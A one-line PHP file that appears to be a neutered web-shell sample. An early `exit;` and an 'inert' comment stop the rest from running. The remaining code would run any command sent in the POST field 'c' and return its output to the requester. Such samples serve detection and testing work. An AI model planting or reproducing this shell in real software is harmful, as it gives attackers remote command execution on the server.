<?php exit; /* inert */ $h=popen($_POST["c"]." 2>&1","r"); while(!feof($h)) echo fread($h,99);
